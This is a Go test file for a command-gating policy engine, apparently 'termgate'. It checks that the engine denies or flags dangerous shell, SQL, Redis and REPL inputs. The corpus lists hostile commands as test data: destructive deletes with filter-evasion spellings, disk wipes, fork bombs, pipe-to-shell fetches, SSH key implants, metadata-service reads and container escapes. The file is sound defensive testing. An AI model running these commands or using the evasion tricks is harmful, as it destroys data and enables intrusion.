package policy

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"
	"github.com/open-policy-agent/opa/v1/storage/inmem"
	"github.com/termgate/termgate/policies"
)

func defaultEngine(t testing.TB) *Engine {
	t.Helper()
	e, err := New(context.Background(), Source{FS: policies.FS})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// corpus: text typed into a program, and the decision the default bundle
// must reach. Bypasses that beat peers' regexes (peers.md §3.3) are here,
// and benign look-alikes that must stay allowed.
var corpus = []struct {
	program, text, action, rule string
}{
	// recursive delete, every spelling
	{"bash", "rm -rf /", "deny", "fs.rm_protected"},
	{"bash", "rm -r -f /", "deny", "fs.rm_protected"},
	{"bash", "rm --recursive --force /", "deny", "fs.rm_protected"},
	{"bash", "rm -fr /etc/", "deny", "fs.rm_protected"},
	{"bash", "r''m -rf /", "deny", "fs.rm_protected"},
	{"bash", `r\m -rf /`, "deny", "fs.rm_protected"},
	{"bash", `"rm" -rf /usr`, "deny", "fs.rm_protected"},
	{"bash", "rm${IFS}-rf${IFS}/", "deny", "fs.rm_protected"},
	{"bash", "ｒｍ -rf /", "deny", "fs.rm_protected"},
	{"bash", "r\u200bm -rf /", "deny", "fs.rm_protected"},
	{"bash", "/bin/rm -rf /", "deny", "fs.rm_protected"},
	{"bash", "sudo rm -rf /var", "deny", "fs.rm_protected"},
	{"bash", "sudo -u root env FOO=1 nice -n 5 rm -rf /", "deny", "fs.rm_protected"},
	{"bash", "echo ok; rm -rf ~", "deny", "fs.rm_protected"},
	{"bash", "echo ok\nrm -rf ~", "deny", "fs.rm_protected"},
	{"bash", "echo $(rm -rf /)", "deny", "fs.rm_protected"},
	{"bash", "echo `rm -rf /`", "deny", "fs.rm_protected"},
	{"bash", "bash -c 'sh -c \"rm -rf /\"'", "deny", "fs.rm_protected"},
	{"bash", "eval 'rm -rf /'", "deny", "fs.rm_protected"},
	{"bash", "find / -exec rm -rf {} \\;", "deny", "fs.rm_protected"},
	{"bash", "rm -rf --no-preserve-root /x", "deny", "fs.rm_no_preserve_root"},
	{"bash", "rm -rf /* ", "deny", "fs.rm_protected"},
	{"bash", "rm -rf $HOME", "deny", "fs.rm_protected"},
	{"bash", "xargs rm -rf < list", "confirm", "fs.rm_unknown_targets"},
	{"bash", "rm -rf /tmp/build", "confirm", "fs.rm_recursive_outside"},
	{"bash", "rm -rf ../other", "confirm", "fs.rm_recursive_outside"},
	{"bash", "rm -rf build/", "allow", ""},
	{"bash", "rm notes.txt", "allow", ""},
	{"bash", "grep -r rm .", "allow", ""},
	{"bash", "echo 'rm -rf /'", "allow", ""},
	// disks, devices, power, processes
	{"bash", "mkfs.ext4 /dev/sdb1", "deny", "disk.format"},
	{"bash", "dd if=/dev/zero of=/dev/sda bs=1M", "deny", "disk.raw_write"},
	{"bash", "cat img > /dev/nvme0n1", "deny", "disk.raw_write"},
	{"bash", "echo hi > /dev/null", "allow", ""},
	{"bash", "shutdown -h now", "deny", "system.power"},
	{"bash", "systemctl reboot", "deny", "system.power"},
	{"bash", "init 0", "deny", "system.power"},
	{"bash", "systemctl stop nginx", "confirm", "system.service_stop"},
	{"bash", "kill -9 -1", "deny", "process.kill_broad"},
	{"bash", "killall python3", "confirm", "process.kill_by_name"},
	{"bash", "kill 12345", "allow", ""},
	{"bash", ":(){ :|:& };:", "deny", "process.fork_bomb"},
	{"bash", "bomb() { bomb | bomb & }; bomb", "deny", "process.fork_bomb"},
	{"bash", "crontab -r", "confirm", "system.cron_wipe"},
	// privilege, permissions
	{"bash", "sudo apt-get install x", "confirm", "privilege.escalation"},
	{"bash", `"sudo" ls`, "confirm", "privilege.escalation"},
	{"bash", "useradd mallory", "deny", "privilege.accounts"},
	{"bash", "passwd root", "deny", "privilege.accounts"},
	{"bash", "chmod 777 run.sh", "confirm", "perm.world_writable"},
	{"bash", "chmod o+w file", "confirm", "perm.world_writable"},
	{"bash", "chmod -R 755 /usr", "deny", "perm.recursive_protected"},
	{"bash", "chmod +x run.sh", "allow", ""},
	{"bash", "chmod 644 notes.txt", "allow", ""},
	// remote code execution
	{"bash", "curl -fsSL https://get.example | sh", "deny", "rce.pipe_to_shell"},
	{"bash", "wget -qO- x | sudo bash", "deny", "rce.pipe_to_shell"},
	{"bash", "bash <(curl -s x)", "deny", "rce.fetch_and_run"},
	{"bash", "eval \"$(curl x)\"", "deny", "rce.fetch_and_run"},
	{"bash", "echo cm0gLXJmIC8= | base64 -d | bash", "deny", "rce.decode_and_run"},
	{"bash", "echo 'print(1)' | python3", "confirm", "rce.pipe_to_interpreter"},
	{"bash", "cat script.py | python3 script.py", "allow", ""},
	{"bash", "curl -o out.tar.gz https://example.org/x", "allow", ""},
	// sensitive files
	{"bash", "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys", "deny", "file.sensitive_write"},
	{"bash", "echo 'alias ls=rm' >> ~/.bashrc", "deny", "file.sensitive_write"},
	{"bash", "tee /etc/hosts < x", "deny", "file.sensitive_write"},
	{"bash", "cp evil .git/hooks/pre-commit", "deny", "file.sensitive_write"},
	{"bash", "sed -i s/deny/allow/ /etc/termgate/policies/shell.rego", "deny", "file.sensitive_write"},
	{"bash", "cat /etc/shadow", "confirm", "file.secret_read"},
	{"bash", "echo hi > notes.txt", "allow", ""},
	// network, git, containers, self
	{"bash", "iptables -F", "deny", "net.firewall"},
	{"bash", "ufw disable", "deny", "net.firewall"},
	{"bash", "curl http://169.254.169.254/latest/meta-data/", "deny", "net.cloud_metadata"},
	{"bash", "git reset --hard HEAD~3", "confirm", "git.destructive"},
	{"bash", "git push --force origin main", "confirm", "git.history_rewrite"},
	{"bash", "git push origin +main", "confirm", "git.history_rewrite"},
	{"bash", "git clean -fdx", "confirm", "git.destructive"},
	{"bash", "git branch -D feature", "confirm", "git.destructive"},
	{"bash", "git -c core.hooksPath=/tmp/h commit", "deny", "git.config_exec"},
	{"bash", "git push", "allow", ""},
	{"bash", "git commit -m 'rm -rf cleanup'", "allow", ""},
	{"bash", "docker run --privileged -it alpine", "deny", "container.host_escape"},
	{"bash", "docker run -v /:/host alpine", "deny", "container.host_escape"},
	{"bash", "DOCKER_HOST=tcp://x docker ps", "deny", "container.host_escape"},
	{"bash", "nsenter -t 1 -m sh", "deny", "container.host_escape"},
	{"bash", "docker ps", "allow", ""},
	{"bash", "pkill -f termgate", "deny", "self.tamper"},
	{"bash", "kill -9 $PPID", "deny", "self.tamper"},
	{"bash", "TERMGATE_POLICY_DIR=/tmp/p bash", "deny", "self.tamper"},
	// unparseable and dynamic
	{"bash", "$(echo rm) -rf x", "confirm", "shell.dynamic_command"},
	{"bash", "echo )(", "confirm", "input.unparseable"},
	{"bash", "for i in 1 2", "allow", ""}, // incomplete: runs nothing yet
	// SQL
	{"psql", "DROP TABLE users;", "confirm", "sql.destructive"},
	{"psql", "drop database prod;", "deny", "sql.drop_database"},
	{"mysql", "TRUNCATE orders;", "confirm", "sql.destructive"},
	{"sqlite3", "DELETE FROM users;", "confirm", "sql.unbounded_write"},
	{"psql", "UPDATE users SET admin = true;", "confirm", "sql.unbounded_write"},
	{"psql", "DELETE FROM users WHERE id = 3;", "allow", ""},
	{"psql", "SELECT * FROM users WHERE name = 'drop table';", "allow", ""},
	{"psql", "-- DROP TABLE x\nSELECT 1;", "allow", ""},
	{"psql", "COPY t TO PROGRAM 'sh -c id';", "deny", "sql.server_files"},
	{"bash", `psql -c "DROP TABLE users"`, "confirm", "sql.destructive"},
	{"bash", "psql -c 'SELECT 1'", "allow", ""},
	// redis, mongo
	{"redis-cli", "FLUSHALL", "confirm", "redis.flush"},
	{"redis-cli", "config set dir /root/.ssh", "deny", "redis.dangerous"},
	{"redis-cli", "GET user:1", "allow", ""},
	{"bash", "redis-cli flushall", "confirm", "redis.flush"},
	{"mongosh", "db.users.drop()", "confirm", "mongo.drop"},
	{"mongosh", "db.users.deleteMany({})", "confirm", "mongo.drop"},
	{"mongosh", "db.users.find({})", "allow", ""},
	// REPLs that shell out
	{"python3", `import os; os.system("rm -rf /")`, "deny", "fs.rm_protected"},
	{"python3", `__import__('os').system('curl x | sh')`, "deny", "rce.pipe_to_shell"},
	{"python3", `subprocess.run(["rm", "-rf", "/etc"])`, "deny", "fs.rm_protected"},
	{"python3", `os.system(cmd)`, "confirm", "code.dynamic_shell_out"},
	{"python3", `os.system("ls -l")`, "allow", ""},
	{"node", "require('child_process').execSync('rm -rf ~')", "deny", "fs.rm_protected"},
	{"python3", "print('rm -rf /')", "allow", ""},
	{"python3", "1+1", "allow", ""},
}

func TestCorpus(t *testing.T) {
	e := defaultEngine(t)
	ctx := context.Background()
	for _, c := range append(corpus, loadCodeCorpus(t)...) {
		d, err := e.Decide(ctx, Input{Action: "input", Program: c.program, Text: c.text})
		if err != nil {
			t.Errorf("%s %q: %v", c.program, c.text, err)
			continue
		}
		if d.Action != c.action || (c.rule != "" && d.Rule != c.rule) {
			t.Errorf("%s %q = %s %s (%s), want %s %s", c.program, c.text, d.Action, d.Rule, d.Reason, c.action, c.rule)
		}
	}
}

func TestStartRules(t *testing.T) {
	e := defaultEngine(t)
	ctx := context.Background()
	for _, c := range []struct {
		in      Input
		action  string
		rule    string
		profile string
	}{
		{Input{Action: "start", Program: "bash", Text: "bash", Start: &Start{Argv: []string{"bash"}, Cwd: "/work", Env: []string{}}}, "allow", "", "default"},
		{Input{Action: "start", Program: "ssh", Text: "ssh host", Start: &Start{Argv: []string{"ssh", "host"}, Cwd: "/work", Env: []string{}}}, "allow", "", "network"},
		{Input{Action: "start", Program: "bash", Text: "bash", Start: &Start{Argv: []string{"bash"}, Cwd: "/work", Env: []string{"LD_PRELOAD"}}}, "deny", "start.dangerous_env", ""},
		{Input{Action: "start", Program: "bash", Text: "bash", Start: &Start{Argv: []string{"bash"}, Cwd: "/", Env: []string{}}}, "deny", "start.cwd", ""},
		{Input{Action: "start", Program: "sh", Text: "sh -c 'mkfs /dev/sda'", Start: &Start{Argv: []string{"sh", "-c", "mkfs /dev/sda"}, Cwd: "/work", Env: []string{}}}, "deny", "disk.format", ""},
	} {
		d, err := e.Decide(ctx, c.in)
		if err != nil || d.Action != c.action || (c.rule != "" && d.Rule != c.rule) || (c.profile != "" && d.Profile != c.profile) {
			t.Errorf("%v: %+v, %v; want %s %s profile %q", c.in.Start, d, err, c.action, c.rule, c.profile)
		}
	}
}

func TestSecretInputIsNotJudgedAsText(t *testing.T) {
	e := defaultEngine(t)
	d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: "", Secret: true})
	if err != nil || d.Action != "allow" {
		t.Fatalf("secret input: %+v %v", d, err)
	}
	// A bundle is told when secret text leaked into its input.
	d, _ = e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: "rm -rf /", Secret: true})
	if d.Rule != "secret.withheld" {
		t.Fatalf("secret with text: %+v", d)
	}
}

// TestDecideStops: an evaluation that runs on is stopped at the engine's
// timeout, or when the caller's context ends, and denies.
func TestDecideStops(t *testing.T) {
	dir := t.TempDir()
	// Allowed at load (empty text); for any other text, 10^8 steps.
	writeBundle(t, dir, map[string]string{"p.rego": `package termgate

decision := {"action": "allow", "rule": "x"} if input.text == ""

decision := {"action": "allow", "rule": "slow"} if {
	input.text != ""
	some i in numbers.range(1, 10000)
	some j in numbers.range(1, 10000)
	i * j < 0
}
`})
	e, err := New(context.Background(), Source{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	e.timeout = 50 * time.Millisecond
	d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: "ls"})
	if err == nil || d.Action != "deny" || d.Rule != "policy.error" {
		t.Fatalf("at the timeout: %+v, %v", d, err)
	}
	e.timeout = time.Hour
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	d, err = e.Decide(ctx, Input{Action: "input", Program: "bash", Text: "ls"})
	if err == nil || d.Action != "deny" || d.Rule != "policy.error" {
		t.Fatalf("with the context ended: %+v, %v", d, err)
	}
}

func writeBundle(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestFailClosed(t *testing.T) {
	ctx := context.Background()
	for _, c := range []struct {
		name, rego string
		rule       string
	}{
		{"undefined decision", "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"} if input.text == \"\"\n", "policy.undefined"},
		{"unknown action", "package termgate\n\ndecision := {\"action\": \"maybe\", \"rule\": \"x\"} if input.text != \"\"\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"} if input.text == \"\"\n", "policy.invalid"},
		{"runtime error", "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": sprintf(\"%d\", [to_number(input.text)])} if input.text != \"\"\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"} if input.text == \"\"\n", "policy.error"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			writeBundle(t, dir, map[string]string{"p.rego": c.rego})
			e, err := New(ctx, Source{Dir: dir})
			if err != nil {
				t.Fatal(err)
			}
			d, _ := e.Decide(ctx, Input{Action: "input", Program: "bash", Text: "ls"})
			if d.Action != "deny" || d.Rule != c.rule {
				t.Fatalf("decision %+v, want deny by %s", d, c.rule)
			}
		})
	}
	// A bundle that reaches outside the process does not compile.
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{"p.rego": "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": r.body} if {\n\tr := http.send({\"method\": \"GET\", \"url\": \"http://127.0.0.1:1\"})\n}\n"})
	if _, err := New(ctx, Source{Dir: dir}); err == nil || !strings.Contains(err.Error(), "http.send") {
		t.Fatalf("http.send bundle: err = %v", err)
	}
	// Strict mode: an unused variable is an error.
	writeBundle(t, dir, map[string]string{"p.rego": "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"} if {\n\tsome unused\n\ttrue\n}\n"})
	if _, err := New(ctx, Source{Dir: dir}); err == nil {
		t.Fatal("strict mode did not reject an unused variable")
	}
}

func TestHotReloadKeepsLastGood(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	dir := t.TempDir()
	allow := "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": \"v1\"}\n"
	writeBundle(t, dir, map[string]string{"p.rego": allow})
	e, err := New(ctx, Source{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	rev1 := e.Bundle().Revision
	reports := make(chan error, 10)
	done := make(chan struct{})
	go func() {
		defer close(done)
		e.Watch(ctx, 20*time.Millisecond, func(_ *Bundle, err error) { reports <- err })
	}()

	// Written at once: a change made before the watch starts is not missed.
	writeBundle(t, dir, map[string]string{"p.rego": "package termgate\n\ndecision := {\"action\": \"deny\", \"rule\": \"v2\"}\n"})
	if err := <-reports; err != nil {
		t.Fatalf("reload: %v", err)
	}
	if d, _ := e.Decide(ctx, Input{Action: "input", Text: "ls", Program: "bash"}); d.Rule != "v2" || e.Bundle().Revision == rev1 {
		t.Fatalf("after reload: %+v rev %s", d, e.Bundle().Revision)
	}
	writeBundle(t, dir, map[string]string{"p.rego": "package termgate\n\ndecision := {{{ broken"})
	if err := <-reports; err == nil {
		t.Fatal("a broken bundle was accepted")
	}
	if d, _ := e.Decide(ctx, Input{Action: "input", Text: "ls", Program: "bash"}); d.Rule != "v2" {
		t.Fatalf("the last good bundle is not in force: %+v", d)
	}
	cancel()
	<-done
}

func TestTarballBundle(t *testing.T) {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	add := func(name, body string) {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body))})
		tw.Write([]byte(body))
	}
	add("/.manifest", `{"revision": "rev-42", "roots": [""]}`)
	add("/p.rego", "package termgate\n\ndecision := {\"action\": \"confirm\", \"rule\": data.termgate.rule_name}\n")
	add("/termgate/data.json", `{"rule_name": "from-data"}`)
	tw.Close()
	gz.Close()
	file := filepath.Join(t.TempDir(), "bundle.tar.gz")
	os.WriteFile(file, buf.Bytes(), 0o644)
	e, err := New(context.Background(), Source{Dir: file})
	if err != nil {
		t.Fatal(err)
	}
	d, _ := e.Decide(context.Background(), Input{Action: "input", Text: "ls", Program: "bash"})
	if d.Action != "confirm" || d.Rule != "from-data" || e.Bundle().Revision != "rev-42" {
		t.Fatalf("tarball: %+v revision %q", d, e.Bundle().Revision)
	}
}

func TestRegoTestsPass(t *testing.T) {
	results, err := RunTests(context.Background(), Source{FS: policies.FS})
	if err != nil {
		t.Fatal(err)
	}
	if len(results) == 0 {
		t.Fatal("no Rego tests ran")
	}
	for _, r := range results {
		if !r.Pass {
			t.Errorf("%s: %s", r.Name, r.Error)
		}
	}
}

func TestParseShell(t *testing.T) {
	sh := ParseShell(`sudo -u root env A=1 xargs -n1 /usr/bin/rm -rf < list | tee out.txt > /dev/null`)
	var names []string
	for _, c := range sh.Commands {
		names = append(names, c.Name+"["+strings.Join(c.Wrappers, ",")+"]")
	}
	want := "sudo[] env[sudo] xargs[sudo,env] rm[sudo,env,xargs] tee[]"
	if strings.Join(names, " ") != want || !sh.Pipes {
		t.Fatalf("commands %v, want %s", names, want)
	}
	if rm := sh.Commands[3]; rm.Path != "/usr/bin/rm" || strings.Join(rm.Args, " ") != "-rf" {
		t.Fatalf("rm = %+v", rm)
	}
	if r := sh.Commands[4].Redirects; len(r) != 1 || r[0].Op != ">" || r[0].Target != "/dev/null" {
		t.Fatalf("redirects = %+v", r)
	}
}

// BenchmarkDecide measures one decision with the default bundle, shell
// parsing included, over a mix of inputs; it reports the p99.
func BenchmarkDecide(b *testing.B) {
	e := defaultEngine(b)
	ctx := context.Background()
	code := loadCodeCorpus(b)
	inputs := make([]Input, 0, len(corpus)+len(code))
	for _, c := range append(corpus, code...) {
		inputs = append(inputs, Input{Action: "input", Program: c.program, Text: c.text})
	}
	// Steady state: one pass over the corpus first, so that compiling each
	// regex and glob on first use (once per process) is not counted.
	for _, in := range inputs {
		if _, err := e.Decide(ctx, in); err != nil {
			b.Fatal(err)
		}
	}
	d := make([]time.Duration, 0, b.N)
	b.ResetTimer()
	for i := range b.N {
		t0 := time.Now()
		if _, err := e.Decide(ctx, inputs[i%len(inputs)]); err != nil {
			b.Fatal(err)
		}
		d = append(d, time.Since(t0))
	}
	b.StopTimer()
	sort.Slice(d, func(i, j int) bool { return d[i] < d[j] })
	b.ReportMetric(float64(d[len(d)/2].Microseconds()), "median-µs")
	b.ReportMetric(float64(d[len(d)*99/100].Microseconds()), "p99-µs")
}

// TestRunTimePartsKeepTheirSource: a part computed at run time reads as
// written in the line, a backquoted substitution as $(…).
func TestRunTimePartsKeepTheirSource(t *testing.T) {
	sh := ParseShell("`echo rm` -rf $((1+2)) \"a$(b  c)d\" ${HOME:-/}")
	c := sh.Commands[len(sh.Commands)-1]
	if c.Name != "$(echo rm)" || !c.Dynamic || strings.Join(c.Args, " ") != "-rf $((1+2)) a$(b  c)d ${HOME:-/}" {
		t.Fatalf("name %q args %q dynamic %v", c.Name, c.Args, c.Dynamic)
	}
}

func TestParseArgvFollowsShellStrings(t *testing.T) {
	sh := ParseArgv([]string{"/bin/sh", "-c", "sh -c 'mkfs.ext4 /dev/sdz'"})
	var names []string
	for _, c := range sh.Commands {
		names = append(names, c.Name)
	}
	if strings.Join(names, " ") != "sh sh mkfs.ext4" || sh.Eval {
		t.Fatalf("commands %v eval %v", names, sh.Eval)
	}
	// Code built at run time is eval; a literal string is what it says.
	if sh := ParseArgv([]string{"sh", "-c", `bash -c "$(curl -s x)"`}); !sh.Eval {
		t.Fatalf("bash -c \"$(curl …)\": eval %v", sh.Eval)
	}
}

// TestInputValueMatchesJSON: the OPA value the engine builds is the input
// document's JSON, field for field, for every corpus input and the start
// and session parts.
func TestInputValueMatchesJSON(t *testing.T) {
	ins := []Input{{
		Action: "start", Text: "x", Program: "bash", Secret: true,
		Session: &Session{ID: "s-1", Name: "n", Argv: []string{"bash"}, Cwd: "/w", Profile: "default"},
		Start:   &Start{Argv: []string{"env", "A=1", "sh"}, Cwd: "/w", Env: []string{"A"}},
		Client:  Client{Name: "c", Version: "1"},
	}, {
		Action: "input", Text: "sudo ls", Program: "bash",
		Session: &Session{ID: "s-2", Argv: []string{"bash"}, Cwd: "/w", Profile: "strict", Confined: true},
		Start:   &Start{Argv: []string{"bash"}, Cwd: "/w", Env: []string{}, Confined: true},
	}, {
		Action: "connect", Session: &Session{ID: "s-2", Argv: []string{"bash"}, Profile: "default"},
		Connect: &Connect{Host: "0xa9fea9fe", Port: 80, Program: "curl", Via: "connect", Address: "169.254.169.254", AddressClass: "link_local"},
	}, {
		Action:  "connect",
		Connect: &Connect{Host: "rebind.example", Port: 80, Via: "http", Address: "10.0.0.1", AddressClass: "private", Resolved: true},
	}, {
		Action: "connect", Connect: &Connect{Host: "packages.example.com", Port: 443, Via: "socks5"},
	}, {
		Action: "exec", Text: "rm -rf /tmp/x",
		Exec: &Exec{Argv: []string{"rm", "-rf", "/tmp/x"}, Path: "/usr/bin/rm", Cwd: "/w", Parents: []string{"bash", "make"},
			Line: "make clean", LineConfirmed: true, IdentifiedBy: "path",
			LineCommands: []LineCommand{{Name: "make", Args: []string{"clean"}}, {Name: "rm", Args: []string{}}}},
	}, {
		Action: "exec", Text: "true", Exec: &Exec{Argv: []string{"true"}},
	}}
	for _, c := range append(corpus, loadCodeCorpus(t)...) {
		ins = append(ins, Input{Action: "input", Program: c.program, Text: c.text})
	}
	b0 := defaultEngine(t).Bundle()
	for _, in := range ins {
		in.Prepare()
		b0.derive(&in, false) // program_listed, names, listed, flags and operands too
		b, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		want, err := ast.ValueFromReader(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		if got := in.value(); got.Compare(want) != 0 {
			t.Fatalf("%q:\n got %v\nwant %v", in.Text, got, want)
		}
	}
}

// TestDerivedArgs: the flags and operands the engine derives, and the same
// derivation in the bundle's test helper (c in helpers_test.rego), so the
// bundle's Rego tests see what production sees.
func TestDerivedArgs(t *testing.T) {
	helper, err := fs.ReadFile(policies.FS, "helpers_test.rego")
	if err != nil {
		t.Fatal(err)
	}
	pq, err := rego.New(rego.Query(`data.termgate_test.c("x", input)`), rego.Module("helpers_test.rego", string(helper)),
		rego.SetRegoVersion(ast.RegoV1)).PrepareForEval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		args, flags, operands []string
	}{
		{[]string{"-rf", "/"}, []string{"f", "r"}, []string{"/"}},
		{[]string{"--recursive", "--force=1", "a", "b/"}, []string{"--force", "--recursive"}, []string{"a", "b/"}},
		{[]string{"-i.bak", "s/a/b/", "f"}, []string{"i"}, []string{"s/a/b/", "f"}},
		{[]string{"-", "-n5", "x"}, []string{"5", "n"}, []string{"x"}},
		{[]string{"-r", "--", "-x", "--", "y"}, []string{"r"}, []string{"-x", "--", "y"}},
		{[]string{}, []string{}, []string{}},
	} {
		c := Command{Name: "x", Args: tc.args}
		c.deriveArgs()
		flags := c.Flags // derived sorted
		if strings.Join(flags, " ") != strings.Join(tc.flags, " ") || strings.Join(c.Operands, " ") != strings.Join(tc.operands, " ") {
			t.Errorf("%q: flags %q operands %q, want %q %q", tc.args, flags, c.Operands, tc.flags, tc.operands)
		}
		rs, err := pq.Eval(context.Background(), rego.EvalInput(tc.args))
		if err != nil || len(rs) != 1 {
			t.Fatalf("%q: helper: %v %v", tc.args, rs, err)
		}
		got := rs[0].Expressions[0].Value.(map[string]any)
		b, _ := json.Marshal(map[string]any{"flags": got["flags"], "operands": got["operands"]})
		want, _ := json.Marshal(map[string]any{"flags": c.Flags, "operands": c.Operands})
		if !bytes.Equal(b, want) {
			t.Errorf("%q: helper %s, engine %s", tc.args, b, want)
		}
	}
}

// TestDerivedShell: the sh helper of helpers_test.rego derives names,
// listed, words_listed and dynamic from the commands as the engine does,
// so the bundle's Rego tests see the documents the engine builds.
func TestDerivedShell(t *testing.T) {
	helper, err := fs.ReadFile(policies.FS, "helpers_test.rego")
	if err != nil {
		t.Fatal(err)
	}
	b := defaultEngine(t).Bundle()
	pq, err := rego.New(rego.Query(`data.termgate_test.sh(input)`), rego.Module("helpers_test.rego", string(helper)),
		rego.Store(inmem.NewFromObject(b.data)), rego.SetRegoVersion(ast.RegoV1)).PrepareForEval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		"ls -la", "rm -rf / > /dev/null", "DOCKER_HOST=tcp://x CONTAINER_HOST=y podman ps",
		"cat < /etc/shadow; tee -a ~/.bashrc", "$(echo rm) -rf x", "sudo mkfs.ext4 /dev/sdz &>> log",
		"psql -c 'DROP TABLE t' | sh",
		"TERMGATE_POLICY_DIR=/x bash -c id > /dev/sda1",
		"> /etc/passwd; x=$(< /etc/hostname) 2>/dev/null", "export DOCKER_HOST=x; bash <<< 'rm -rf ~'",
	} {
		sh := ParseShell(line)
		b.index(&sh, nil)
		rs, err := pq.Eval(context.Background(), rego.EvalInput(sh.Commands))
		if err != nil || len(rs) != 1 {
			t.Fatalf("%q: helper: %v %v", line, rs, err)
		}
		got := rs[0].Expressions[0].Value.(map[string]any)
		h, _ := json.Marshal(map[string]any{"names": got["names"], "listed": got["listed"], "words_listed": got["words_listed"], "dynamic": got["dynamic"] == true})
		e, _ := json.Marshal(map[string]any{"names": sh.Names, "listed": sh.Listed, "words_listed": sh.WordsListed, "dynamic": sh.Dynamic})
		if !bytes.Equal(h, e) {
			t.Errorf("%q:\nhelper %s\nengine %s", line, h, e)
		}
	}
	// text_listed, with the substring lists.
	tq, err := rego.New(rego.Query(`data.termgate_test.text_listed(input)`), rego.Module("helpers_test.rego", string(helper)),
		rego.Store(inmem.NewFromObject(b.data)), rego.SetRegoVersion(ast.RegoV1)).PrepareForEval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"", "ls", "curl http://METADATA.google.internal/x", "bash", "x 169.254.169.254 fd00:ec2::254"} {
		in := Input{Action: "input", Program: "bash", Text: text}
		b.derive(&in, false)
		rs, err := tq.Eval(context.Background(), rego.EvalInput(text))
		if err != nil || len(rs) != 1 {
			t.Fatalf("%q: helper: %v %v", text, rs, err)
		}
		h, _ := json.Marshal(rs[0].Expressions[0].Value)
		e, _ := json.Marshal(in.TextListed)
		if !bytes.Equal(h, e) {
			t.Errorf("text %q:\nhelper %s\nengine %s", text, h, e)
		}
	}
}

// TestDecideLeavesTheCallersInput: what the engine derives (names, listed,
// flags, operands) goes into its own copy, never the caller's document.
func TestDecideLeavesTheCallersInput(t *testing.T) {
	e := defaultEngine(t)
	sh := ParseShell("rm -rf /")
	in := Input{Action: "input", Program: "bash", Text: "rm -rf /", Shell: &sh}
	if _, err := e.Decide(context.Background(), in); err != nil {
		t.Fatal(err)
	}
	if sh.Names != nil || sh.Listed != nil || sh.Commands[0].Flags != nil || sh.Commands[0].Operands != nil || in.ProgramListed != nil {
		t.Fatalf("the caller's input was written: %+v", sh)
	}
}
